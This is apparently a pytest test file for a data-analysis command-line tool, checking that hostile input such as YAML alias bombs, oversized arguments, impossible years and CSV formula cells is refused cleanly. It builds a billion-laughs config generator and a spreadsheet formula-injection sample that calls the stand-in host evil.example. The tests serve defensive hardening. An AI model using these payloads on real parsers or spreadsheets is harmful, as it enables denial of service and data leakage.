"""Hostile input (issue 14): alias bombs, huge values, huge numbers, impossible years, folders
given as files, formulas in CSV cells, mixed-type CSVs. Each is bad input: exit 2, one short
line on stderr, no traceback, quickly and in little memory."""

from __future__ import annotations

import gzip
import json
import subprocess
import sys
import textwrap
import time

import pandas as pd
import pytest

from analysis import build, datastore, report
from analysis.cli import main
from analysis.datastore import DataStore
from analysis.dimensions import Dimension
from analysis.dyadic import AllPairs, long_to_wide
from analysis.errors import BadInput, quote
from analysis.fileio import load_yaml, neutralise_formulas
from analysis.panel import check_coverage

#: Peak memory a refused config may cost (the CLI alone, with pandas imported, is ~150 MB).
PEAK_RSS_LIMIT_MB = 300


def alias_bomb(levels: int) -> str:
    """Return a batch config whose ``pairs`` expands to 9**levels strings (billion laughs)."""
    names = "abcdefghijklmnop"[:levels]
    lines = ["output: o", "a: &a [lol,lol,lol,lol,lol,lol,lol,lol,lol]"]
    for prev, name in zip(names, names[1:], strict=False):
        lines.append(f"{name}: &{name} [" + ",".join([f"*{prev}"] * 9) + "]")
    lines.append(f"pairs: *{names[-1]}")
    return "\n".join(lines) + "\n"


def run_cli(*args: str, cwd=None) -> tuple[int, str, str, float]:
    """Run ``python -m analysis ARGS`` in a child; return code, stdout, stderr and peak MB.

    The child runs under a small wrapper that reports its own children's peak RSS
    (``resource.getrusage(RUSAGE_CHILDREN)``), so earlier children of the test process do not
    count.
    """
    wrapper = textwrap.dedent(
        """
        import json, resource, subprocess, sys
        r = subprocess.run([sys.executable, "-m", "analysis", *sys.argv[1:]],
                           capture_output=True, text=True)
        peak_kb = resource.getrusage(resource.RUSAGE_CHILDREN).ru_maxrss
        print(json.dumps({"code": r.returncode, "out": r.stdout, "err": r.stderr,
                          "peak_mb": peak_kb / 1024}))
        """
    )
    proc = subprocess.run(
        [sys.executable, "-c", wrapper, *args],
        capture_output=True,
        text=True,
        check=True,
        cwd=cwd,
        timeout=120,
    )
    r = json.loads(proc.stdout)
    return r["code"], r["out"], r["err"], r["peak_mb"]


def assert_one_line(code: int, err: str, max_chars: int = 300) -> None:
    assert code == 2, err
    assert err.startswith("bilateral: error: ") and err.count("\n") == 1, err[:500]
    assert "Traceback" not in err and len(err) < max_chars, (len(err), err[:500])


# --- 1. YAML alias bombs and other hostile configs ----------------------------------------------


def test_alias_bomb_is_refused_quickly_in_little_memory(tmp_path):
    """Nine nested anchors (~380 bytes, 9**9 strings expanded): took ~6 min and 2.5 GB."""
    cfg = tmp_path / "bomb.yml"
    cfg.write_text(alias_bomb(9), encoding="utf-8")
    assert cfg.stat().st_size < 400
    started = time.perf_counter()
    code, out, err, peak_mb = run_cli("batch", str(cfg))
    seconds = time.perf_counter() - started
    assert_one_line(code, err)
    assert "line 2: aliases are not allowed in a batch config" in err
    assert out == "" and not (tmp_path / "o").exists()
    print(f"alias bomb refused in {seconds:.1f} s, peak RSS {peak_mb:.0f} MB")
    assert peak_mb < PEAK_RSS_LIMIT_MB, peak_mb
    assert seconds < 30


def test_six_level_alias_config_gives_a_short_line(tmp_path, capsys, monkeypatch):
    """Six levels used to be expanded into the error message: a 4.3 MB line."""
    monkeypatch.chdir(tmp_path)
    (tmp_path / "six.yml").write_text(alias_bomb(6), encoding="utf-8")
    assert main(["batch", "six.yml"]) == 2
    err = capsys.readouterr().err
    assert_one_line(2, err, max_chars=200)


def test_catalog_with_aliases_is_refused(tmp_path):
    (tmp_path / "catalog.yml").write_text(alias_bomb(4), encoding="utf-8")
    with pytest.raises(BadInput, match="aliases are not allowed in a catalog.*data build"):
        DataStore.at(tmp_path).catalog()


@pytest.mark.parametrize(
    ("content", "match"),
    [
        (b"output: caf\xe9\npairs: [ARM-RUS]\n", r"not UTF-8 text \(byte 0xe9 at offset 11\)"),
        (b"# " + b"x" * 1_000_001 + b"\n", r"is 1,000,004 bytes, more than the 1,000,000 allowed"),
        (b"output: o\npairs: " + b"[" * 100_000 + b"]" * 100_000, r"not valid YAML|too deeply"),
    ],
    ids=["latin-1", "oversized", "deeply-nested"],
)
def test_config_encoding_size_and_depth(tmp_path, capsys, monkeypatch, content, match):
    monkeypatch.chdir(tmp_path)
    (tmp_path / "batch.yml").write_bytes(content)
    assert main(["batch", "batch.yml"]) == 2
    err = capsys.readouterr().err
    assert_one_line(2, err)
    assert err.startswith("bilateral: error: batch.yml: ")
    assert pytest.importorskip("re").search(match, err), err


def test_load_yaml_names_a_repeated_key_and_its_lines(tmp_path):
    path = tmp_path / "c.yml"
    path.write_text("output: a\npairs:\n  - {a: ARM, b: RUS, a: AZE}\n", encoding="utf-8")
    with pytest.raises(BadInput, match=r"line 3: key 'a' appears twice \(first on line 3\)"):
        load_yaml(path, "batch config")


# --- 2. values quoted at most ~80 characters --------------------------------------------------


def test_quote_cuts_long_values_and_states_their_length():
    assert quote("ARM") == "'ARM'"
    cut = quote("x" * 100_000)
    assert len(cut) < 120 and cut.endswith("… (100,000 characters)")
    assert len(quote([["y" * 1000] * 1000] * 1000)) < 120
    assert quote(int("9" * 4000)) == "<an integer of about 4,000 digits>"


@pytest.mark.parametrize(
    "args",
    [
        ["indicators", "x" * 100_000, "RUS"],
        ["indicators", "ARM", "RUS", "--start", "9" * 100_000],
        ["indicators", "ARM", "RUS", "--format", "x" * 100_000],
        ["events", "ARM", "RUS", "f.csv", "--format", "x" * 100_000],
    ],
    ids=["country", "year", "choice", "events-format"],
)
def test_a_100kb_argument_is_not_echoed_back(capsys, args):
    code = main(args)
    # at most CLICK_QUOTE_LIMIT characters of the value and the message around it
    assert_one_line(code, capsys.readouterr().err, max_chars=300)


def test_a_100kb_pair_in_a_config_is_not_echoed_back(tmp_path, capsys, monkeypatch):
    monkeypatch.chdir(tmp_path)
    (tmp_path / "b.yml").write_text(f"output: o\npairs: [{'Z' * 100_000}-RUS]\n", "utf-8")
    assert main(["batch", "b.yml"]) == 2
    err = capsys.readouterr().err
    assert_one_line(2, err, max_chars=200)
    assert "(100,000 characters)" in err


# --- 3. a 5,000-digit country code ----------------------------------------------------------------


def test_a_5000_digit_cow_code_is_one_line(capsys):
    code = main(["indicators", "7" * 5000, "RUS"])
    err = capsys.readouterr().err
    assert_one_line(code, err, max_chars=250)
    assert "COW numbers have at most 3 digits" in err


# --- 4. years against the data's coverage --------------------------------------------------------


@pytest.mark.parametrize(
    ("args", "message"),
    [
        (
            ["report", "ARM", "RUS", "--start", "1800"],
            "--start 1800 is before the data of ARM-RUS begin (1990); use 1990–2025",
        ),
        (
            ["report", "ARM", "RUS", "--end", "2035"],
            "--end 2035 is after the data of ARM-RUS end (2025); use 1990–2025",
        ),
        (["report", "ARM", "RUS", "--start", "3000"], "--start 3000 is after the data"),
        (["indicators", "ARM", "RUS", "--start", "1800"], "--start 1800 is before the data"),
        (["indicators", "ARM", "RUS", "--end", "-5"], "--end -5 is not a year; give a year"),
        (["indicators", "ARM", "RUS", "--start", "1990", "--end", "-5"], "--end -5 is not a year"),
        (["report", "ARM", "RUS", "--start", "MMXX"], "'MMXX' is not a year"),
    ],  # fmt: skip
)
def test_years_outside_the_data_are_refused_before_any_kernel(
    tmp_path, capsys, monkeypatch, args, message
):
    def no_kernel(*a, **k):
        raise AssertionError("a kernel started")

    monkeypatch.setattr(report.KernelSession, "__enter__", no_kernel)
    code = main([*args, *(["--out", str(tmp_path / "r")] if args[0] == "report" else [])])
    err = capsys.readouterr().err
    assert_one_line(code, err)
    assert message in err, err
    assert not (tmp_path / "r").exists()


def test_a_default_start_moves_to_the_pairs_first_year():
    """2000 is a default, not the user's: a pair whose data begin in 2006 starts there."""
    years = range(2006, 2026)
    assert check_coverage(years, "MNE", "RUS", 2000, None, clamp_start=True)[0] == 2006
    with pytest.raises(BadInput, match=r"--start 2000 is before .* \(2006\); use 2006–2025"):
        check_coverage(years, "MNE", "RUS", 2000, None)


# --- 5. a folder where a file is expected -----------------------------------------------------------


@pytest.mark.parametrize(
    ("args", "message"),
    [
        (["batch", "{dir}"], "batch config {dir} is a folder, not a file; give a YAML file"),
        (["events", "ARM", "RUS", "{dir}", "--format", "gdelt1"], "event file {dir} is a folder"),
        (["events", "ARM", "RUS", "{dir}", "--format", "icews"], "event file {dir} is a folder"),
    ],
)
def test_a_folder_is_not_reported_as_not_found(tmp_path, capsys, args, message):
    code = main([a.format(dir=tmp_path) for a in args])
    err = capsys.readouterr().err
    assert_one_line(code, err)
    assert message.format(dir=tmp_path) in err and "not found" not in err


# --- 6. formulas in CSV cells ------------------------------------------------------------------------

EVIL = '=HYPERLINK("http://evil.example/?x","click")'


def test_neutralise_formulas_prefixes_text_and_leaves_numbers():
    df = pd.DataFrame(
        {
            "source": [EVIL, "+1", "-x", "@SUM(A1)", "\tx", "imf_dots"],
            "value": [-5.0, 1.0, 2.0, 3.0, 4.0, 5.0],
            "mixed": ["-7", -7, None, "=1", "ok", 1.5],
        }
    )
    out = neutralise_formulas(df)
    assert out["source"].tolist() == ["'" + EVIL, "'+1", "'-x", "'@SUM(A1)", "'\tx", "imf_dots"]
    assert out["value"].tolist() == df["value"].tolist()
    assert out["mixed"].tolist()[:2] == ["'-7", -7] and out["mixed"][3] == "'=1"
    assert df["source"][0] == EVIL  # the input is not modified


def test_indicators_csv_neutralises_formulas(capsys, monkeypatch):
    panel = pd.DataFrame(
        {
            "country_a": ["ARM"],
            "country_b": ["RUS"],
            "indicator": ["trade.balance"],
            "year": [2024],
            "value": [-5.5],
            "unit": ["+USD"],
            "source": [EVIL],
        }
    )
    monkeypatch.setattr("analysis.panel.get_panel", lambda *a, **k: panel)
    assert main(["indicators", "ARM", "RUS", "--format", "csv"]) == 0
    row = capsys.readouterr().out.splitlines()[1]
    assert (
        row
        == 'ARM,RUS,trade.balance,2024,-5.5,\'+USD,"\'=HYPERLINK(""http://evil.example/?x"",""click"")"'
    )


def test_dyads_csv_neutralises_formulas(tmp_path):
    rows = pd.DataFrame(
        {
            "country_a": ["ARM", "RUS"],
            "country_b": ["RUS", "ARM"],
            "indicator": "trade.exports_a_to_b",
            "year": 2020,
            "value": [-1.25, 2.0],
            "unit": "USD million",
            "source": [EVIL, "imf_dots"],
        }
    )
    dim = Dimension(
        name="economy",
        title="Economy",
        prefixes=("trade",),
        notebook="economy.ipynb",
        load_inputs_ref=lambda raw: {},
        clear_inputs_ref=lambda: None,
        compute_all_pairs_ref=lambda _inputs: AllPairs(directed=long_to_wide(rows)),
        compute_tables_ref=lambda _inputs: {},
        provider_ref=lambda raw, a, b: pd.DataFrame(),
    )
    build.build_store(tmp_path / "raw", tmp_path / "data" / "store", [dim])
    from analysis.dyads import export_dyads

    out = tmp_path / "d.csv"
    export_dyads(DataStore.at(tmp_path / "data"), out, ["ARM", "RUS"])
    df = pd.read_csv(out)
    assert df["source"].tolist() == ["'" + EVIL, "imf_dots"]
    assert df["value"].tolist() == [-1.25, 2.0]
    datastore.reset()


# --- 7. no pandas warning above the one-line error -----------------------------------------------


def test_a_mixed_type_raw_csv_gives_exactly_one_line(tmp_path):
    """300,000 numeric years then a word: pandas' chunked reader printed a DtypeWarning."""
    path = tmp_path / "raw" / "tvyal_armstat_trade" / "arm_trade_country_monthly_2007_2024.csv.gz"
    path.parent.mkdir(parents=True)
    lines = ["country,year,month,export,import_origin,import_consignment"]
    lines += [f"Russia,{2010 + i % 10},{1 + i % 12},1.5,2.5,2.5" for i in range(300_000)]
    lines.append("Russia,twenty,1,1.5,2.5,2.5")
    with gzip.open(path, "wt", encoding="utf-8") as fh:
        fh.write("\n".join(lines) + "\n")
    out = tmp_path / "out"
    code, _, err, _ = run_cli("data", "build", "--raw", str(tmp_path / "raw"), "--out", str(out))
    assert_one_line(code, err, max_chars=400)
    assert "column 'year' must be numeric, found 'twenty'" in err
    assert "Warning" not in err and not out.exists()
